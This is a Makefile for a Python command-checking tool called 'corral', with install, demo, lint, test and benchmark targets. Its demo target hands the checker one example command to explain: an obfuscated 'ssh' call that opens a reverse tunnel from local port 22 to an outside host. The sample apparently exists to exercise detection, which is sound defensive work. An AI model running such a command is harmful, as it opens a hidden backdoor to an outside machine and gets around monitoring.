# Two entry points for a fresh machine: `make demo` (install and replay the incident under
# `corral run` on the built-in defaults) and `make test` (install with the test tools and run every
# check CI runs).
PYTHON ?= python3
VENV := .venv
BIN := $(VENV)/bin
STAMP := $(VENV)/.installed

.PHONY: demo test lint bench clean

$(STAMP): pyproject.toml
	$(PYTHON) -m venv $(VENV)
	$(BIN)/pip install --quiet --upgrade pip
	$(BIN)/pip install --quiet -e '.[dev]'
	touch $(STAMP)

demo: $(STAMP)
	@if [ "$$(id -u)" -eq 0 ]; then \
		$(BIN)/corral demo; \
	else \
		echo "corral demo needs root (cgroups, namespaces); judging the example actions instead"; \
		$(BIN)/corral check --no-sessions examples/actions.jsonl; test $$? -le 1 && \
		$(BIN)/corral explain --command 'a=ss; $${a}h -fNR 2222:localhost:22 tunnel@203.0.113.7'; \
	fi

lint: $(STAMP)
	$(BIN)/ruff check src tests bench
	$(BIN)/ruff format --check src tests bench
	$(BIN)/mypy

test: lint
	$(BIN)/pytest -q -p no:cacheprovider

bench: $(STAMP)
	$(BIN)/python bench/decide.py
	$(BIN)/python bench/check_throughput.py
	$(BIN)/python bench/parsers.py
	$(BIN)/python bench/log_throughput.py
	$(BIN)/python bench/sessions.py
	$(BIN)/python bench/ledger.py
	$(BIN)/python bench/proxy.py
	$(BIN)/python bench/integrations.py
	$(BIN)/python bench/audit.py
	$(BIN)/python bench/supervisor.py

clean:
	rm -rf $(VENV) .mypy_cache .ruff_cache .pytest_cache .hypothesis
